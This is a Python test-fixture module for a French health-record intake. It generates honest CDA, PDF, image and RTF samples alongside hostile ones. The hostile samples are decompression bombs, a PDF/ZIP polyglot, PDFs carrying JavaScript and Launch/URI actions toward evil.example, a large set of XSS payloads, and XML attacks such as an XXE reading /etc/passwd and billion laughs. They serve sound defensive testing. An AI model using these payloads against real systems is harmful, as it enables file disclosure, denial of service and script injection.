# ruff: noqa: E501
"""Files made for the tests of the intake: honest ones, and ones made to harm. Nothing here comes from a person."""

import base64
import io
import os
import struct
import zipfile
import zlib
from pathlib import Path

import pikepdf
import pytest
from PIL import Image
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

SHARED = Path(os.environ.get("HEALTHSPACE_SHARED", Path(__file__).parents[4] / "shared"))


def real(folder: str, pattern: str) -> list[Path]:
    """The published files of a shared folder; one entry that skips where they are not at hand."""
    found = sorted((SHARED / "data" / folder).glob(pattern))
    return found or [pytest.param(None, marks=pytest.mark.skip("The shared data are not beside the repository."))]


def pdf(pages: int = 1, words: str = "Compte rendu", size: int = 0) -> bytes:
    """A plain PDF; `size` adds incompressible bytes as a picture so that it weighs about that much."""
    out = io.BytesIO()
    page = canvas.Canvas(out, pagesize=A4)
    for number in range(1, pages + 1):
        page.drawString(72, 760, f"{words} {number}")
        if size and number == 1:
            side = max(8, int((size / 3) ** 0.5))
            noise = Image.frombytes("RGB", (side, side), os.urandom(side * side * 3))
            page.drawInlineImage(noise, 72, 300, 200, 200)
        page.showPage()
    page.save()
    return out.getvalue()


def picture(form: str = "PNG", size: tuple[int, int] = (60, 40), **options: object) -> bytes:
    out = io.BytesIO()
    image = Image.new("RGB", size, (200, 30, 60))
    image.paste((20, 90, 200), (0, 0, size[0] // 2, size[1] // 2))
    image.save(out, form, **options)
    return out.getvalue()


def tiff(pages: int = 3) -> bytes:
    out = io.BytesIO()
    sheets = [Image.new("1", (200 + 10 * number, 100), number % 2) for number in range(pages)]
    sheets[0].save(out, "TIFF", save_all=True, append_images=sheets[1:], compression="group4")
    return out.getvalue()


def rtf(body: str = r"\b Ordonnance\b0\par Parac\'e9tamol 500 mg \u8211? 3 fois par jour\par") -> bytes:
    return ("{\\rtf1\\ansi\\ansicpg1252{\\fonttbl{\\f0 Arial;}}{\\info{\\author Nobody}}\\f0 " + body + "}").encode()


def cda(sections: str = "", *, body: str = "", prologue: str = "", kind: str = "11490-0", extra: str = "") -> bytes:
    """A CDA document around `sections` (level 3) or `body` (whole component content)."""
    inside = body or f"<structuredBody>{sections}</structuredBody>"
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prologue}'
        '<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        '<realmCode code="FR"/><typeId root="2.16.840.1.113883.1.3" extension="POCD_HD000040"/>'
        '<id root="1.2.250.1.999.1" extension="77"/>'
        f'<code code="{kind}" codeSystem="2.16.840.1.113883.6.1" displayName="Lettre de liaison"/>'
        "<title>Lettre de sortie</title>"
        '<effectiveTime value="20260304101500+0100"/><confidentialityCode code="N" codeSystem="2.16.840.1.113883.5.25"/>'
        '<confidentialityCode code="MASQUE_PS" codeSystem="1.2.250.1.213.1.1.4.13"/><languageCode code="fr-FR"/>'
        '<setId root="1.2.250.1.999.2"/><versionNumber value="2"/>'
        '<recordTarget><patientRole><id root="1.2.250.1.213.1.4.10" extension="279035121518989"/><patient><name>'
        '<family qualifier="BR">DUVAL</family><family qualifier="CL">MARTIN</family><given>AMINA ROSE</given>'
        '<given qualifier="BR">AMINA</given><given qualifier="CL">MINA</given></name>'
        '<administrativeGenderCode code="F"/><birthTime value="19790328"/>'
        "<birthplace><place><addr><county>51215</county></addr></place></birthplace></patient></patientRole>"
        '</recordTarget><author><time value="202603041010+0100"/><assignedAuthor>'
        '<id root="1.2.250.1.71.4.2.1" extension="810000000017"/>'
        '<code code="G15_10/SM26" codeSystem="1.2.250.1.213.1.1.4.5" displayName="Généraliste"/><assignedPerson><name>'
        "<prefix>MME</prefix><given>Linh</given><family>NGUYEN</family><suffix>DR</suffix></name></assignedPerson>"
        '<representedOrganization><id root="1.2.250.1.71.4.2.2" extension="1120456789"/><name>Hôpital de Rivemont</name>'
        "</representedOrganization></assignedAuthor></author>"
        '<documentationOf><serviceEvent><effectiveTime><low value="20260228"/><high value="20260304"/></effectiveTime>'
        '<performer typeCode="PRF"><assignedEntity><id root="1.2.250.1.71.4.2.1" extension="810000000017"/>'
        '<representedOrganization><standardIndustryClassCode code="ETABLISSEMENT"/></representedOrganization>'
        "</assignedEntity></performer></serviceEvent></documentationOf>"
        '<relatedDocument typeCode="RPLC"><parentDocument><id root="1.2.250.1.999.1" extension="76"/></parentDocument>'
        "</relatedDocument><componentOf><encompassingEncounter><location><healthCareFacility>"
        '<code code="SA01"/></healthCareFacility></location></encompassingEncounter></componentOf>'
        f"{extra}<component>{inside}</component></ClinicalDocument>"
    ).encode()


def section(text: str, title: str = "Suites", inner: str = "") -> str:
    return f"<component><section><title>{title}</title><text>{text}</text>{inner}</section></component>"


def level_one(content: bytes, media_type: str) -> bytes:
    inside = base64.b64encode(content).decode()
    return cda(body=f'<nonXMLBody><text mediaType="{media_type}" representation="B64">{inside}</text></nonXMLBody>')


def medium(name: str, content: bytes, media_type: str) -> str:
    inside = base64.b64encode(content).decode()
    return (
        f'<entry><observationMedia classCode="OBS" moodCode="EVN" ID="{name}">'
        f'<value mediaType="{media_type}" representation="B64">{inside}</value></observationMedia></entry>'
    )


def zipped(name: str = "x.txt", content: bytes = b"hidden", comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, content)
        archive.comment = comment
    return out.getvalue()


def pdf_around_zip() -> bytes:
    """A ZIP written inside a PDF comment, whose own comment is the rest of the PDF: both open."""
    honest = pdf()
    head, tail = honest[:9], honest[9:]
    inside = bytearray(zipped())
    inside[-2:] = struct.pack("<H", len(tail) + 1)
    return head + b"%" + bytes(inside).replace(b"\n", b" ").replace(b"\r", b" ") + b"\n" + tail


def flood_png(side: int = 30_000) -> bytes:
    """Some kilobytes that ask for 900 million pixels."""
    row = b"\0" * (side // 8 + 2)
    deflate = zlib.compressobj(9)
    rows = b"".join(deflate.compress(row) for _ in range(side)) + deflate.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
        + (_chunk(b"IDAT", rows) + _chunk(b"IEND", b""))
    )


def _chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def bomb_pdf(megabytes: int = 400) -> bytes:
    """A page whose content grows a thousand times."""
    deflate = zlib.compressobj(9)
    zeros = b"\0" * (1 << 20)
    raw = b"".join(deflate.compress(zeros) for _ in range(megabytes)) + deflate.flush()
    return _with_stream(raw, "/FlateDecode")


def bomb_of_bombs_pdf() -> bytes:
    """Deflate within deflate: a few hundred bytes for many megabytes."""
    once = zlib.compress(b"\0" * (64 << 20), 9)
    return _with_stream(zlib.compress(once, 9), "[/FlateDecode /FlateDecode]")


def _with_stream(raw: bytes, filters: str) -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << >> >>",
        b"<< /Length %d /Filter %s >>\nstream\n%s\nendstream" % (len(raw), filters.encode(), raw),
    ]
    out, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    start = len(out)
    return out + b"xref\n0 5\n0000000000 65535 f \n%strailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        table,
        start,
    )


def active_pdf() -> bytes:
    """Everything a PDF can do besides showing: each must be gone from the copy."""
    with pikepdf.open(io.BytesIO(pdf(2))) as document:
        name, dictionary, array = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array
        script = dictionary(S=name.JavaScript, JS="app.alert('evil')")
        document.Root.OpenAction = script
        document.Root.AA = dictionary(WC=script)
        document.Root.Names = dictionary(
            JavaScript=dictionary(
                Names=array(["evil", document.make_indirect(dictionary(S=name.JavaScript, JS="evil()"))])
            )
        )
        document.attachments["evil.exe"] = b"MZ evil"
        document.Root.AcroForm = dictionary(XFA=document.make_stream(b"<xdp>evil</xdp>"), Fields=array([]))
        document.Root.Metadata = document.make_stream(b"<x:xmpmeta>evil</x:xmpmeta>")
        document.Root.URI = dictionary(Base="http://evil.example/")
        box = array([10, 10, 100, 100])
        actions = [
            script,
            dictionary(S=name.Launch, F="evil.exe"),
            dictionary(S=name.URI, URI="http://evil.example/"),
            dictionary(S=name.GoToR, F="evil.pdf"),
            dictionary(S=name.GoToE, F="evil.pdf"),
            dictionary(S=name.SubmitForm, F="http://evil.example/"),
            dictionary(S=name.ImportData, F="evil.fdf"),
            dictionary(S=name.Named, N=name.Print),
            dictionary(S=name.GoTo, D=array([document.pages[1].obj, name.Fit]), Next=script),
        ]
        annotations = [dictionary(Type=name.Annot, Subtype=name.Link, Rect=box, A=action) for action in actions]
        annotations += [
            dictionary(Type=name.Annot, Subtype=pikepdf.Name("/" + kind), Rect=box, Contents="evil")
            for kind in ("RichMedia", "Movie", "Sound", "3D", "Screen", "FileAttachment")
        ]
        annotations.append(dictionary(Type=name.Annot, Subtype=name.Widget, Rect=box, AA=dictionary(K=script)))
        placed = array([document.make_indirect(one) for one in annotations])
        document.pages[0].obj.Annots = placed
        document.Root.AcroForm.Fields = array([placed[-1]])
        document.pages[1].obj.AA = dictionary(O=script)
        document.docinfo["/Author"] = "evil"
        out = io.BytesIO()
        document.save(out)
        return out.getvalue()


def locked_pdf(user: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(out, encryption=pikepdf.Encryption(user=user, owner="owner"))
    return out.getvalue()


def narrative_attacks() -> list[str]:
    """Ways to smuggle script through a CDA narrative: elements, attributes, addresses, text that looks like HTML."""
    addresses = [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
        "java&#10;script:alert(1)", "\u00a0javascript:alert(1)", "http://é.example/&lt;x", "vbscript:msgbox(1)", "data:text/html,&lt;script>alert(1)",
        "data:image/svg+xml;base64,PHN2Zz4=", "//evil.example/x", "\\\\evil.example\\x", "file:///etc/passwd",
        "blob:https://evil.example/1", "http://user:pass@evil.example/", "https://evil.example/&quot;onmouseover=&quot;alert(1)",
        "#&quot; onclick=&quot;alert(1)", "http:javascript:alert(1)", "http://[", "ftp://evil.example/", "mailto:a@evil.example",
    ]  # fmt: skip
    found = [f'<paragraph><linkHtml href="{address}">voir</linkHtml></paragraph>' for address in addresses]
    elements = [
        "script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "button", "base", "link", "meta",
        "img", "video", "audio", "template", "noscript", "textarea", "title", "details", "marquee", "frameset", "applet",
    ]  # fmt: skip
    found += [
        f"<paragraph><{name} src='//evil.example/x' onload='alert(1)'>alert(1)</{name}></paragraph>"
        for name in elements
    ]
    found += [
        f"<{name} xmlns='http://www.w3.org/1999/xhtml' onerror='alert(1)'>x</{name}>"
        for name in ("script", "svg", "img")
    ]
    attributes = [
        "onclick", "onmouseover", "onerror", "style", "class", "id", "ID", "background", "href", "src", "formaction",
        "xlink:href", "srcdoc", "data-x", "tabindex", "accesskey", "contenteditable", "border", "width", "lang",
    ]  # fmt: skip
    found += [
        f"<table xmlns:xlink='http://www.w3.org/1999/xlink' {name}='javascript:alert(1)'><tbody><tr {name}='alert(1)'>"
        f"<td {name}='x&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>valeur</td><td>b</td></tr></tbody></table>"
        for name in attributes
    ]
    texts = [
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt;", "<![CDATA[<script>alert(1)</script>]]>",
        "<![CDATA[</p></section><svg/onload=alert(1)>]]>", "&amp;lt;script&amp;gt;alert(1)", "&quot;&gt;&lt;svg onload=alert(1)&gt;",
        "<![CDATA[<!--><script>alert(1)</script>-->]]>", "<![CDATA[<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">]]>",
    ]  # fmt: skip
    found += [f"<paragraph>{text}</paragraph>" for text in texts]
    found += [
        f"<table><caption>{text}</caption><tbody><tr><td>{text}</td><td>{text}</td></tr></tbody></table>"
        for text in texts
    ]
    found += [f"<list><item><caption>{text}</caption>{text}</item></list>" for text in texts]
    found += [
        "<content styleCode='Bold&quot; onclick=&quot;alert(1)'>x</content>",
        "<td colspan='1&quot; onclick=&quot;alert(1)'>x</td>",
        "<table><tbody><tr><td colspan='99999999999'>x</td><td rowspan='-1'>y</td></tr></tbody></table>",
        "<renderMultiMedia referencedObject='../../x&quot; onerror=&quot;alert(1)'/>",
        "<footnote ID='&quot;&gt;&lt;script&gt;'>note&lt;script&gt;</footnote><footnoteRef IDREF='&quot;&gt;&lt;script&gt;'/>",
    ]
    return found


def malicious_xml() -> dict[str, bytes]:
    """XML that reads files, calls out or grows: refused before it is read."""
    honest = cda(section("texte"))
    external = honest.replace(
        b"<ClinicalDocument", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><ClinicalDocument', 1
    )
    laughs = "".join(f'<!ENTITY l{n} "{"".join([f"&l{n - 1};"] * 10)}">' for n in range(1, 10))
    return {
        "external entity": external.replace(b"texte", b"&x;"),
        "parameter entity": honest.replace(
            b"<ClinicalDocument", b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://127.0.0.1:9/x"> %x;]><ClinicalDocument', 1
        ),
        "billion laughs": honest.replace(
            b"<ClinicalDocument", f'<!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]><ClinicalDocument'.encode(), 1
        ).replace(b"texte", b"&l9;"),
        "external subset": honest.replace(
            b"<ClinicalDocument", b'<!DOCTYPE a SYSTEM "http://127.0.0.1:9/a.dtd"><ClinicalDocument', 1
        ),
        "bare doctype": honest.replace(b"<ClinicalDocument", b"<!DOCTYPE ClinicalDocument><ClinicalDocument", 1),
        "lower case": honest.replace(b"<ClinicalDocument", b"<!doctype html><ClinicalDocument", 1),
        "utf-16": honest.decode().replace("UTF-8", "UTF-16").encode("utf-16"),
        "utf-7": honest.replace(b"UTF-8", b"UTF-7"),
        "undeclared entity": honest.replace(b"texte", b"&evil;"),
        "too deep": cda(section("<content>" * 5000 + "x" + "</content>" * 5000)),
        "two roots": honest + honest,
        "cut off": honest[:-40],
    }
